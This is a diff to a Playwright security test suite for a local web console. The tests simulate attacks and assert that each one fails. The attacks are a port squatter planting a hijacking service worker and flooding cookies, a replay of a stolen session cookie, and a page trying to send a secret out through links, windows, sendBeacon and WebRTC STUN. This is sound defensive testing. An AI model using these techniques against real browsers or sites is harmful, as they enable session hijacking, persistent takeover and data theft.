@@ -1,6 +1,11 @@
-import { createServer, type Server } from 'node:http';
+import { createSocket } from 'node:dgram';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { expect, type Page } from '@playwright/test';
+import { systemRandom } from '../../src/main/foundation/random.ts';
+import { openBrowser } from '../../src/main/hosts/browser/open-browser.ts';
+import { askOrigin } from '../../src/main/hosts/browser/testing/ask-origin.ts';
+import { startConsole } from '../support/console-process.ts';
 import { test } from './support/fixtures.ts';
 import { Screens } from './support/pages/screens.ts';
 import { submitSecret } from './support/secret-document.ts';
@@ -51,14 +56,14 @@ test('the token stays with its origin and the cookie with no script', async ({ o
   expect(own.process().stderr()).not.toContain(cookies[0]?.value ?? 'no cookie');
 });
 
-test('a cookie that another port was sent opens nothing', async ({ own, app }) => {
+test('another port is sent no cookie, and gets nothing', async ({ own, app }) => {
   await settled(app);
   const { origin } = own.process();
   const other = await otherPort('<p>other</p>');
   const page = await app.context().newPage();
   await page.goto(other.origin);
-  // The cookie does cross ports: this is why it is not enough.
-  expect(other.seen.join()).toContain('causeway-');
+  // Cookies cross ports, and no name: this origin's is its own.
+  expect(other.seen.join()).toBe('');
 
   const attempts = await page.evaluate(async (target) => {
     const socket = (protocols: string[]) =>
@@ -87,13 +92,13 @@ test('a cookie that another port was sent opens nothing', async ({ own, app }) =
     probe: 'refused',
     post: 'refused',
   });
-  // With the stolen cookie and no browser in between, every byte chosen by the thief.
-  const cookie = other.seen.find((value) => value.includes('causeway-')) ?? '';
-  const stolen = await fetch(`${origin}/session`, {
-    headers: { cookie, 'x-causeway-token': 'A'.repeat(43) },
+  // With the cookie itself and no browser in between, every byte chosen by a thief.
+  const cookie = (await app.context().cookies(origin)).map((each) => `${each.name}=${each.value}`);
+  expect(cookie).toHaveLength(1);
+  const stolen = await askOrigin(`${origin}/session`, {
+    headers: { cookie: cookie.join(), 'x-causeway-token': 'A'.repeat(43) },
   });
-  expect(stolen.status).toBe(403);
-  expect(await stolen.text()).toBe('');
+  expect(stolen).toMatchObject({ status: 403, body: '' });
   other.server.close();
 });
 
@@ -207,4 +212,138 @@ test('a document for a secret is for its window alone: the page cannot read it',
 
   // Nothing of that has spent it.
   await submitSecret(sheet, { Token: 'a.b.c' }, 'Add profile');
+});
+
+test('what a squatter planted on the port of an ended console meets no later link', async ({
+  own,
+  app,
+}) => {
+  await settled(app);
+  const first = new URL(app.url());
+  const { port } = first;
+  await own.stop('SIGKILL');
+  // Another user takes the port on every address of the name, plants a worker and a file for ever.
+  const asked: string[] = [];
+  const evil = (request: IncomingMessage, response: ServerResponse) => {
+    asked.push(`${request.headers.host}${request.url}`);
+    response.setHeader('cache-control', 'public, max-age=31536000, immutable');
+    response.setHeader('service-worker-allowed', '/');
+    const isScript = request.url?.endsWith('.js') === true;
+    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
+    if (request.url === '/worker.js') {
+      response.end(`addEventListener('install', () => skipWaiting());
+        addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+        addEventListener('fetch', (event) => event.respondWith(new Response('squatted')));`);
+    } else response.end(isScript ? 'window.squatted = true' : '<p>squatter</p>');
+  };
+  const squatters = ['127.0.0.1', '::1'].map((host) => {
+    const server = createServer({ maxHeaderSize: 2 ** 20 }, evil).listen(Number(port), host);
+    // A machine without IPv6.
+    server.on('error', () => undefined);
+    return server;
+  });
+  const visitor = await app.context().newPage();
+  for (const origin of [first.origin, `http://127.0.0.1:${port}`, `http://localhost:${port}`]) {
+    await visitor.goto(origin);
+    await expect(visitor.getByText('squatter')).toBeVisible();
+    await visitor.evaluate(async () => {
+      // Cookies of this name for the host, which every port of it is sent.
+      for (let at = 0; at < 150; at += 1) {
+        await cookieStore.set(`causeway-${at}`, 'x'.repeat(3_000));
+      }
+      await navigator.serviceWorker.register('/worker.js');
+      await navigator.serviceWorker.ready;
+    });
+    await visitor.reload();
+    await expect(visitor.getByText('squatted')).toBeVisible();
+  }
+  for (const server of squatters) {
+    server.closeAllConnections();
+    server.close();
+  }
+  await expect.poll(() => squatters.some((server) => server.listening)).toBe(false);
+
+  const again = await startConsole({
+    dataDir: own.dataDir,
+    args: ['--ephemeral', '--port', port],
+  });
+  asked.length = 0;
+  const page = await app.context().newPage();
+  await page.goto(again.url);
+  await settled(page);
+  expect(await page.evaluate(() => 'squatted' in window)).toBe(false);
+  expect(await page.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
+  await page.reload();
+  await settled(page);
+  expect(asked).toEqual([]);
+  await again.stop();
+});
+
+test('a file that redirects opens the page, as the system’s browser is started', async ({
+  own,
+  app,
+  folder,
+}) => {
+  await settled(app);
+  const file = await new Promise<string>((done, fail) => {
+    const { freshLink } = own.process();
+    const launch = async (address: string) => done(address);
+    freshLink()
+      .then((link) => openBrowser({ folder, link, random: systemRandom, launch }))
+      .catch(fail);
+  });
+  const page = await (await app.context().browser()?.newContext())?.newPage();
+  if (page === undefined) throw new Error('There is no browser.');
+  await page.goto(file);
+  await settled(page);
+  expect(page.url()).toContain(own.process().origin);
+  expect(page.url()).not.toContain('code');
+  await page.context().close();
+});
+
+test('the page can send nothing out by a link, a window, itself or WebRTC', async ({ app }) => {
+  await settled(app);
+  const other = await otherPort('<p>other</p>');
+  const heard: string[] = [];
+  const udp = createSocket('udp4').on('message', (bytes) => heard.push(bytes.toString('hex')));
+  await new Promise<void>((done) => udp.bind(0, '127.0.0.1', done));
+  await app.evaluate(
+    async ({ origin, port }) => {
+      const ice = { iceServers: [{ urls: `stun:127.0.0.1:${port}` }] };
+      const connection = new RTCPeerConnection(ice);
+      connection.createDataChannel('out');
+      await connection.setLocalDescription(await connection.createOffer());
+      const link = document.createElement('a');
+      Object.assign(link, { href: `${origin}/link?secret`, target: '_blank', rel: 'noopener' });
+      document.body.append(link);
+      link.click();
+      link.target = '_self';
+      window.open(`${origin}/window?secret`);
+      navigator.sendBeacon(`${origin}/beacon`, 'secret');
+      await new Promise<void>((done) => {
+        if (connection.iceGatheringState === 'complete') done();
+        connection.onicegatheringstatechange = () => {
+          if (connection.iceGatheringState === 'complete') done();
+        };
+      });
+      setTimeout(() => {
+        location.href = `${origin}/itself?secret`;
+      });
+    },
+    { origin: other.origin, port: udp.address().port },
+  );
+  await app.waitForEvent('framenavigated');
+  expect(app.url()).toMatch(/^chrome-error:/);
+  expect(heard).toEqual([]);
+  expect(other.seen).toEqual([]);
+  udp.close();
+  other.server.close();
+});
+
+test('the browser knows every header that a page comes with', async ({ own, page }) => {
+  const words: string[] = [];
+  page.on('console', (message) => words.push(message.text()));
+  const app = await own.open();
+  await settled(app);
+  expect(words.filter((text) => /unrecognized|refused|violat|error/i.test(text))).toEqual([]);
 });
